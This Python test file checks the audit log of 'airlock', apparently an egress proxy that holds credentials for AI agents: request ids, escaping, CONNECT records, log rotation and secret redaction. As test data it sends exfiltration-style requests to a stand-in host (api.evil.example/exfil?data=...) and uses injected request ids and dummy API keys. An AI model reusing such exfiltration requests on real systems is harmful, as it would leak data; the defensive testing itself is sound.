"""The audit log as a security team reads it (issue 9, items 13-17), with the real binary,
curl, raw sockets and the tests' echo/SSE upstream:
  13  airlock's own request_id on every record; the agent's X-Request-Id only as
      client_request_id (escaped), never in request_id, not forwarded upstream;
  14  CONNECT records carry host + port and no authority in path; a refused forward-proxy
      URL leaves no query value and keeps its host in host; upstream_addr ip:port; a
      missing-provider denial names the provider;
  15  identity updates say what changed (old -> new, never the secret); table loads and
      reloads are records with the file's SHA-256;
  16  mv audit.log audit.log.1 + SIGHUP (or SIGUSR1): new records go to the new file,
      none lost, none twice, also with requests in flight during the rotation;
  17  start_time on every record; a request running past audit.start_record_after_ms
      gets a request_start record, written while it still runs."""
import hashlib
import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from altest import *  # noqa: E402,F401,F403

SECRET = "sk-audit-5e1c9a7b3d2f4e6a8c0b1d3f"
NEW_SECRET = "sk-audit-rotated-9f8e7d6c5b4a3210"
ECHO = None
AL = None

TABLE = """
listen:
  proxy: 127.0.0.1:{proxy_port}
  admin: 127.0.0.1:{admin_port}
limits:
  workers: 2
audit:
  start_record_after_ms: 400
egress:
  passthrough:
    - "pass.localhost"
targets:
  - name: api
    type: openapi
    url: http://127.0.0.1:ECHO_PORT
    allow_insecure_upstream: true
    allow_private_network: true
    auth:
      method: api_key
      provider: audit-key
  - name: nokey
    type: openapi
    url: http://localhost:ECHO_PORT/nokey
    allow_insecure_upstream: true
    allow_private_network: true
    auth:
      method: api_key
      provider: missing-key
  - name: down
    type: openapi
    url: http://127.0.0.1:9
    allow_insecure_upstream: true
    allow_private_network: true
    auth:
      method: api_key
      provider: audit-key
"""
HEX32 = re.compile(r"^[0-9a-f]{32}$")


def curl(*args, timeout=30):
    e = dict(os.environ)
    for k in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY",
              "NO_PROXY", "no_proxy"):
        e.pop(k, None)
    r = subprocess.run(["curl", "-sS", "-D", "-", "-w", "\n%{http_code}"] + list(args),
                       capture_output=True, text=True, timeout=timeout, env=e)
    out, _, code = r.stdout.rpartition("\n")
    head, _, body = out.partition("\n\n")  # text mode: CRLF became LF
    return int(code or 0), head, body


def header(head, name):
    for line in head.split("\n"):
        k, _, v = line.partition(":")
        if k.strip().lower() == name:
            return v.strip()
    return None


def records(path=None, pred=None):
    """Complete lines of an audit file, parsed (a line that is not JSON fails)."""
    path = path or AL.audit_path
    out = []
    try:
        with open(path, "rb") as f:
            data = f.read().decode("utf-8")
    except FileNotFoundError:
        return out
    for line in data.split("\n")[:-1]:
        if line.strip():
            out.append(json.loads(line))
    return [r for r in out if pred is None or pred(r)]


def wait_record(pred, what, timeout=10, path=None):
    return wait_for(lambda: records(path, pred), timeout, what)


def by_crid(crid):
    return lambda r: r.get("client_request_id") == crid and r.get("event") == "request"


def test_start():
    global ECHO, AL
    p, port, _ = start_echo()
    ECHO = port
    AL = Airlock(TABLE.replace("ECHO_PORT", str(port)), providers={"audit-key": SECRET})
    AL.start()


# --- 13: request ids --------------------------------------------------------------

def test_forged_request_id_is_recorded_apart():
    code, _, body = curl(AL.gateway_url("api", "/v1/rid"), "-H", "X-Request-Id: forged-id-123")
    assert code == 200, (code, body)
    upstream_rid = json.loads(body)["headers"]["x-request-id"]
    rec = wait_record(by_crid("forged-id-123"), "record of the forged id")[-1]
    assert HEX32.match(rec["request_id"]), rec
    assert rec["request_id"] != "forged-id-123", rec
    # upstream got airlock's own id (one value), the same the record has
    assert upstream_rid == [rec["request_id"]], (upstream_rid, rec)
    assert not records(pred=lambda r: r.get("request_id") == "forged-id-123")


def test_request_ids_unique_and_hostile_client_ids_escaped():
    spellings = ["a\"b\\c", "x" * 500, "caf\u00e9", "{\"request_id\":\"evil\"}", "id with spaces"]
    for i, s in enumerate(spellings):
        code, _, _ = curl(AL.gateway_url("api", "/v1/h%d" % i), "-H", "X-Request-Id: " + s)
        assert code == 200, code
    # requests without an id get one too
    for i in range(3):
        curl(AL.gateway_url("api", "/v1/none%d" % i))
    wait_record(lambda r: r.get("path") == "/v1/none2", "last plain record")
    recs = records(pred=lambda r: r.get("event") == "request")
    ids = [r["request_id"] for r in recs]
    assert all(HEX32.match(i) for i in ids), ids
    assert len(set(ids)) == len(ids), "request ids repeat"
    got = {r["path"]: r for r in recs if r.get("path", "").startswith("/v1/h")}
    assert got["/v1/h0"]["client_request_id"] == "a\"b\\c", got["/v1/h0"]
    assert got["/v1/h2"]["client_request_id"] == "caf\u00e9", got["/v1/h2"]
    assert got["/v1/h3"]["client_request_id"] == "{\"request_id\":\"evil\"}", got["/v1/h3"]
    assert got["/v1/h4"]["client_request_id"] == "id with spaces"
    long_id = got["/v1/h1"]["client_request_id"]
    assert long_id.endswith("...") and len(long_id) <= 128 and got["/v1/h1"].get("truncated")
    for r in got.values():
        assert HEX32.match(r["request_id"]), r


def test_refusal_returns_airlocks_id():
    code, head, body = curl("-x", AL.proxy_url(), "http://nowhere.example/x",
                            "-H", "X-Request-Id: agent-77")
    assert code == 403 and json.loads(body)["error"] == "unknown_target", (code, body)
    rid = header(head, "x-request-id")
    rec = wait_record(by_crid("agent-77"), "refusal record")[-1]
    assert rid == rec["request_id"] and HEX32.match(rid), (rid, rec)


# --- 14: addressing fields ----------------------------------------------------------

def raw_connect(authority, extra=""):
    s = socket.create_connection(("127.0.0.1", AL.proxy_port), timeout=10)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (authority, authority, extra)).encode())
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    return s, data


def test_refused_connect_has_host_and_port_not_path():
    s, data = raw_connect("api.evil.example:8443", "X-Request-Id: conn-refused\r\n")
    s.close()
    assert data.startswith(b"HTTP/1.1 403"), data
    rec = wait_record(by_crid("conn-refused"), "refused CONNECT record")[-1]
    assert rec["method"] == "CONNECT", rec
    assert rec["host"] == "api.evil.example" and rec["port"] == 8443, rec
    assert rec["path"] is None, rec
    assert rec["decision"] == "deny" and rec["reason"] == "unknown_target", rec
    assert rec["decided_by"] == "route" and rec["outcome"] == "refused", rec
    # IPv6 authority
    s, data = raw_connect("[2001:db8::7]:443", "X-Request-Id: conn-v6\r\n")
    s.close()
    rec = wait_record(by_crid("conn-v6"), "v6 CONNECT record")[-1]
    assert rec["host"] == "2001:db8::7" and rec["port"] == 443 and rec["path"] is None, rec


def test_intercepted_connect_record():
    s, data = raw_connect("127.0.0.1:%d" % ECHO, "X-Request-Id: conn-ok\r\n")
    s.close()
    assert data.startswith(b"HTTP/1.1 200"), data
    rec = wait_record(by_crid("conn-ok"), "intercepted CONNECT record")[-1]
    assert rec["host"] == "127.0.0.1" and rec["port"] == ECHO and rec["path"] is None, rec
    assert rec["status"] == 200 and rec["decision"] == "allow", rec
    assert rec["decided_by"] == "route" and rec["outcome"] == "ok" and rec["reason"] is None, rec


def test_passthrough_connect_records_upstream_addr():
    s, data = raw_connect("pass.localhost:%d" % ECHO, "X-Request-Id: conn-pass\r\n")
    if data.startswith(b"HTTP/1.1 200"):
        s.sendall(b"GET /through HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        while s.recv(4096):
            pass
    s.close()
    rec = wait_record(by_crid("conn-pass"), "passthrough CONNECT record")[-1]
    assert rec["host"] == "pass.localhost" and rec["port"] == ECHO, rec
    # localhost is loopback: the egress guard refuses it (no allow_private_network for
    # passthrough); either way the address it resolved to is not a place airlock went
    if rec["decision"] == "allow":
        assert rec["upstream_addr"] in ("127.0.0.1:%d" % ECHO, "[::1]:%d" % ECHO), rec
    else:
        assert rec["reason"] == "egress_denied" and rec["upstream_addr"] is None, rec
        assert rec["decision"] == "deny" and rec["decided_by"] == "egress", rec


def raw_request(target, crid):
    """One request with exactly this request target; returns the status line."""
    s = socket.create_connection(("127.0.0.1", AL.proxy_port), timeout=10)
    s.sendall(("GET %s HTTP/1.1\r\nHost: h\r\nX-Request-Id: %s\r\nConnection: close\r\n\r\n"
               % (target, crid)).encode())
    data = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    s.close()
    return data.split(b"\r\n", 1)[0]


def test_refused_forward_url_keeps_no_query_value():
    cases = [
        ("http://api.evil.example/exfil?data=secret-exfil-1", "api.evil.example", 80,
         "/exfil?data="),
        ("http://API.evil.example:8080/a/b?x=secret-exfil-2&y=secret-exfil-3#frag",
         "API.evil.example", 8080, "/a/b?x=&y="),
        ("http://api.evil.example?data=secret-exfil-4", "api.evil.example", 80, "/?data="),
        ("https://api.evil.example/p?secret-exfil-5", "api.evil.example", 443, "/p?"),
        ("HTTP://api.evil.example/q?a=secret-exfil-7", "api.evil.example", 80, "/q?a="),
        ("http://[2001:db8::1]:81/v6?k=secret-exfil-6", "2001:db8::1", 81, "/v6?k="),
        ("http://api.evil.example", "api.evil.example", 80, "/"),
        ("http://user:secret-exfil-8@api.evil.example/u?v=secret-exfil-9", "api.evil.example",
         80, "/u?v="),
        ("http://secret-exfil-10@127.0.0.1:%d/u" % ECHO, "127.0.0.1", ECHO, "/u"),
    ]
    for i, (url, host, port, path) in enumerate(cases):
        crid = "fwd-refused-%d" % i
        status = raw_request(url, crid)
        assert b" 403 " in status or b" 400 " in status, (url, status)
        rec = wait_record(by_crid(crid), "record of " + url)[-1]
        assert rec["host"] == host and rec["port"] == port, (url, rec)
        assert rec["path"] == path, (url, rec)
        assert "://" not in json.dumps(rec), rec
    data = open(AL.audit_path, "rb").read()
    assert b"secret-exfil" not in data, "a query value reached the audit log"


def test_upstream_addr_and_port_of_forwarded_requests():
    code, _, _ = curl("-x", AL.proxy_url(), "http://127.0.0.1:%d/fw?q=1" % ECHO,
                      "-H", "X-Request-Id: fwd-ok")
    assert code == 200, code
    rec = wait_record(by_crid("fwd-ok"), "forwarded record")[-1]
    assert rec["upstream_addr"] == "127.0.0.1:%d" % ECHO, rec
    assert rec["host"] == "127.0.0.1" and rec["port"] == ECHO and rec["path"] == "/fw?q=", rec
    code, _, _ = curl(AL.gateway_url("api", "/gw"), "-H", "X-Request-Id: gw-ok")
    rec = wait_record(by_crid("gw-ok"), "gateway record")[-1]
    assert rec["upstream_addr"] == "127.0.0.1:%d" % ECHO and rec["port"] == ECHO, rec
    assert rec["provider"] == "audit-key" and rec["provider_version"] == 1, rec
    # HTTP/2 (h2c): forward with :authority, and gateway
    code, _, _ = curl("--http2-prior-knowledge", AL.gateway_url("api", "/h2gw?k=v"),
                      "-H", "X-Request-Id: h2-gw")
    assert code == 200, code
    rec = wait_record(by_crid("h2-gw"), "h2 gateway record")[-1]
    assert rec["protocol"] == "h2" and rec["upstream_addr"] == "127.0.0.1:%d" % ECHO, rec
    assert rec["path"] == "/h2gw?k=" and HEX32.match(rec["request_id"]), rec


def test_missing_provider_denial_names_it():
    code, _, body = curl(AL.gateway_url("nokey", "/x"), "-H", "X-Request-Id: nokey-1")
    assert code == 502 and json.loads(body)["error"] == "credential_unavailable", (code, body)
    rec = wait_record(by_crid("nokey-1"), "missing-provider record")[-1]
    assert rec["provider"] == "missing-key" and rec["provider_version"] is None, rec
    # a missing credential is not a denial: the route allowed it, the outcome failed
    assert rec["target"] == "nokey" and rec["decision"] == "allow", rec
    assert rec["outcome"] == "error" and rec["reason"] == "credential_unavailable", rec
    assert rec["host"] == "localhost" and rec["port"] == ECHO, rec


def test_decision_apart_from_outcome():
    """An outage, a missing route and an agent that left read differently."""
    code, _, body = curl(AL.gateway_url("down", "/x"), "-H", "X-Request-Id: down-1")
    assert code == 502 and json.loads(body)["error"] == "upstream_connect_failed", (code, body)
    rec = wait_record(by_crid("down-1"), "upstream failure record")[-1]
    assert rec["decision"] == "allow" and rec["decided_by"] == "route", rec
    assert rec["outcome"] == "error" and rec["reason"] == "upstream_connect_failed", rec
    assert "rule" not in rec and "principal" not in rec, rec
    code, _, _ = curl(AL.gateway_url("no-such", "/x"), "-H", "X-Request-Id: nosuch-1")
    assert code == 404, code
    rec = wait_record(by_crid("nosuch-1"), "no-such-target record")[-1]
    assert rec["decision"] == "deny" and rec["decided_by"] == "route", rec
    assert rec["outcome"] == "refused" and rec["reason"] == "no_such_target", rec
    code, _, _ = curl(AL.gateway_url("api", "/bad/%2e%2e/x"), "-H", "X-Request-Id: bad-1")
    assert code == 400, code
    rec = wait_record(by_crid("bad-1"), "malformed request record")[-1]
    assert rec["decision"] == "deny" and rec["decided_by"] == "request", rec
    # the agent leaves in the middle of a stream
    p = subprocess.Popen(["curl", "-sS", "-N", "-H", "X-Request-Id: gone-1",
                          AL.gateway_url("api", "/sse?n=50&interval_ms=100")],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        p.stdout.readline()  # the stream has started
    finally:
        p.kill()
        p.communicate()
    rec = wait_record(by_crid("gone-1"), "client-closed record")[-1]
    assert rec["decision"] == "allow" and rec["outcome"] == "client_closed", rec
    assert rec["status"] == 200, rec


# --- 15: store changes and reloads ---------------------------------------------------

def store_events(name):
    return records(pred=lambda r: r.get("provider") == name and
                   str(r.get("event", "")).startswith("identity."))


def test_identity_update_records_what_changed():
    AL.create_provider("envkey", "sk-env-first-1a2b3c4d5e6f")
    r = AL.cli("identity", "update-api-key-credential-provider", "--name", "envkey",
               "--environment", "prod", "--description", "moved to prod",
               "--state-dir", AL.state_dir)
    assert r.returncode == 0, r.stdout + r.stderr
    ev = store_events("envkey")
    upd = [e for e in ev if e["event"] == "identity.update"]
    assert upd, ev
    ch = upd[-1]["changes"]
    assert ch["environment"] == {"old": "default", "new": "prod"}, upd[-1]
    assert ch["description"] == {"old": None, "new": "moved to prod"}, upd[-1]
    assert upd[-1]["secret_changed"] is False and upd[-1]["version"] == 1, upd[-1]
    # a rotation: secret_changed and the new version, never the secret
    r = AL.cli("identity", "update-api-key-credential-provider", "--name", "envkey",
               "--api-key", "-", "--state-dir", AL.state_dir, stdin_data=NEW_SECRET + "\n")
    assert r.returncode == 0, r.stdout + r.stderr
    rot = [e for e in store_events("envkey") if e["event"] == "identity.rotate"]
    assert rot and rot[-1]["secret_changed"] is True and rot[-1]["version"] == 2, rot
    assert rot[-1]["previous_version"] == 1 and rot[-1]["changes"] == {}, rot[-1]
    data = open(AL.audit_path, "rb").read()
    for s in (NEW_SECRET, "sk-env-first-1a2b3c4d5e6f", SECRET):
        assert s.encode() not in data, "a secret reached the audit log"


def test_table_load_and_reloads_are_recorded():
    loads = records(pred=lambda r: r.get("event") == "table.load")
    assert loads and loads[0]["result"] == "ok" and loads[0]["generation"] == 1, loads
    sha = hashlib.sha256(open(AL.table_path, "rb").read()).hexdigest()
    assert loads[0]["sha256"] == sha and loads[0]["targets"] == 3, loads[0]
    assert loads[0]["file"] == AL.table_path, loads[0]
    before = len(records(pred=lambda r: r.get("event") == "table.reload"))
    good = TABLE.replace("ECHO_PORT", str(ECHO)) + """  - name: extra
    type: openapi
    url: http://127.0.0.1:%d/extra
    allow_insecure_upstream: true
    allow_private_network: true
""" % ECHO
    AL.reload(good)
    rel = wait_for(lambda: records(pred=lambda r: r.get("event") == "table.reload")[before:],
                   10, "reload record")
    sha2 = hashlib.sha256(open(AL.table_path, "rb").read()).hexdigest()
    assert sha2 != sha
    assert rel[0]["result"] == "ok" and rel[0]["sha256"] == sha2, rel
    assert rel[0]["targets"] == 4 and rel[0]["generation"] == 2 and rel[0]["diagnostics"] == 0
    # a table that does not load: failed, the generation in use stays, diagnostics counted
    AL.reload(good + "  - name: BAD NAME\n    type: nope\n")
    rel = wait_for(lambda: records(pred=lambda r: r.get("event") == "table.reload")[before + 1:],
                   10, "failed reload record")
    assert rel[0]["result"] == "failed" and rel[0]["generation"] == 2, rel
    assert rel[0]["diagnostics"] >= 1 and rel[0]["error"], rel
    assert rel[0]["sha256"] == hashlib.sha256(open(AL.table_path, "rb").read()).hexdigest()
    AL.reload(good)
    wait_for(lambda: records(pred=lambda r: r.get("event") == "table.reload")[before + 2:],
             10, "third reload record")


# --- 16: rotation --------------------------------------------------------------------

def _rotate(sig, tag):
    moved = AL.audit_path + "." + tag
    wait_record(lambda r: True, "some record")
    os.rename(AL.audit_path, moved)
    n_old_before = len(records(moved))
    # requests in flight while the file moves and the signal arrives
    done = []
    stop = threading.Event()

    def load(k):
        i = 0
        while not stop.is_set() or i < 5:
            c, _, _ = curl(AL.gateway_url("api", "/rot"), "-H",
                           "X-Request-Id: %s-%d-%d" % (tag, k, i))
            done.append((c, "%s-%d-%d" % (tag, k, i)))
            i += 1
    threads = [threading.Thread(target=load, args=(k,)) for k in range(3)]
    for t in threads:
        t.start()
    time.sleep(0.2)  # let some requests land in the moved file before the signal
    os.kill(AL.pid, sig)
    # the new file appears (the writer reopened it by name)
    wait_for(lambda: os.path.exists(AL.audit_path), 10, "a new %s" % AL.audit_path)
    stop.set()
    for t in threads:
        t.join()
    # after the signal: these must be in the new file
    after = ["%s-after-%d" % (tag, i) for i in range(10)]
    for crid in after:
        c, _, _ = curl(AL.gateway_url("api", "/rot"), "-H", "X-Request-Id: " + crid)
        assert c == 200
    want = {crid for _, crid in done} | set(after)

    def all_there():
        got = [r.get("client_request_id") for r in records(moved) + records(AL.audit_path)
               if str(r.get("client_request_id", "")).startswith(tag + "-")]
        return got if len(got) >= len(want) else None
    got = wait_for(all_there, 15, "every record of the rotation run")
    assert sorted(got) == sorted(want), "lost or duplicated: %d records for %d requests" % (
        len(got), len(want))
    new_ids = {r.get("client_request_id") for r in records(AL.audit_path)}
    assert set(after) <= new_ids, "records after the signal went to the old file"
    assert not set(after) & {r.get("client_request_id") for r in records(moved)}
    assert len(records(moved)) >= n_old_before
    assert all(c == 200 for c, _ in done), done


def test_mv_and_sighup_reopens_the_audit_log():
    _rotate(signal.SIGHUP, "hup")


def test_mv_and_sigusr1_reopens_the_audit_log():
    _rotate(signal.SIGUSR1, "usr1")
    assert AL.proc.alive()


# --- 17: long requests -----------------------------------------------------------------

def test_start_time_on_every_record():
    recs = records(pred=lambda r: r.get("event") == "request")
    assert recs
    for r in recs:
        assert r["start_time"] and r["time"] >= r["start_time"], r


def test_long_stream_gets_a_start_record_while_running():
    p = subprocess.Popen(["curl", "-sS", "-N", "-H", "X-Request-Id: long-sse",
                          AL.gateway_url("api", "/sse?n=8&interval_ms=300")],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        start = wait_record(lambda r: r.get("client_request_id") == "long-sse" and
                            r.get("event") == "request_start", "start record", timeout=10)[0]
        # written while the stream still runs: curl has not finished
        assert p.poll() is None, "the start record came only after the stream ended"
        assert not records(pred=by_crid("long-sse")), "end record before the stream ended"
        assert start["target"] == "api" and start["path"] == "/sse?n=&interval_ms=", start
        assert start["provider"] == "audit-key" and start["decision"] == "allow", start
        assert start["outcome"] is None, start
    finally:
        out, _ = p.communicate(timeout=30)
    assert out.count(b"event: tick") == 8, out
    end = wait_record(by_crid("long-sse"), "end record")[-1]
    assert end["request_id"] == start["request_id"], (start, end)
    assert end["start_time"] == start["start_time"] and end["time"] > start["time"], (start, end)
    assert end["total_ms"] >= 2000 and end["status"] == 200, end
    lines = records()
    i_start = lines.index(start)
    i_end = lines.index(end)
    assert i_start < i_end


def test_short_requests_get_no_start_record():
    for i in range(5):
        curl(AL.gateway_url("api", "/short"), "-H", "X-Request-Id: short-%d" % i)
    wait_record(by_crid("short-4"), "short record")
    assert not records(pred=lambda r: r.get("event") == "request_start" and
                       str(r.get("client_request_id", "")).startswith("short-"))


def test_no_secret_anywhere_in_the_audit_log():
    data = open(AL.audit_path, "rb").read()
    for name in os.listdir(AL.state_dir):
        if name.startswith("audit.log."):
            data += open(os.path.join(AL.state_dir, name), "rb").read()
    for s in (SECRET, NEW_SECRET):
        assert s.encode() not in data


run(globals())
